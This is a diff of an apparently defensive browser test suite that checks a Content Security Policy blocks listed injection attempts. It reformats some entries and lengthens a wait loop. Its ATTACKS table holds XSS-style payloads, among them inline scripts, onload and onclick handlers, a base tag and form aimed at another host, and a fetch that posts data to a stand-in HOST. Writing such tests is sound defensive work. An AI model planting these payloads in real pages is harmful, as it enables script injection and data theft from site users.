@@ -47,7 +47,9 @@ class Attack:
 ATTACKS: Final = {
     "inline script": Attack(stopped_by="script-src-elem", html=f"<script>{RAN}</script>"),
     "inline module": Attack(stopped_by="script-src-elem", html=f'<script type="module">{RAN}</script>'),
-    "event handler": Attack(stopped_by="script-src-attr", html=f'<img src="/repo/assets/logo.svg" alt="" onload="{RAN}">'),
+    "event handler": Attack(
+        stopped_by="script-src-attr", html=f'<img src="/repo/assets/logo.svg" alt="" onload="{RAN}">'
+    ),
     "event handler that waits": Attack(
         stopped_by="script-src-attr", html=f'<button id="NAME" onclick="{RAN}">x</button>', click=True
     ),
@@ -93,9 +95,7 @@ ATTACKS: Final = {
         html='<form action="HOST" method="post"><input name="x" value="1"><button id="NAME">x</button></form>',
         click=True,
     ),
-    "base of another host": Attack(
-        stopped_by="base-uri", alone=True, html='<base href="HOST/"><img src="x" alt="">'
-    ),
+    "base of another host": Attack(stopped_by="base-uri", alone=True, html='<base href="HOST/"><img src="x" alt="">'),
     "data sent with fetch": Attack(
         stopped_by="connect-src", script='fetch("HOST", { method: "POST", body: "x", mode: "no-cors" })'
     ),
@@ -160,7 +160,7 @@ def _press(page: Page, name: str, attack: Attack, stranger: Stranger) -> None:
 
 def _until(page: Page, holds: Callable[[], Any], wanted: Any) -> None:
     """Wait until something gets the value that is wanted, and fail with the value that it has."""
-    for _ in range(200):
+    for _ in range(800):
         if holds() == wanted:
             return
         page.wait_for_timeout(50)
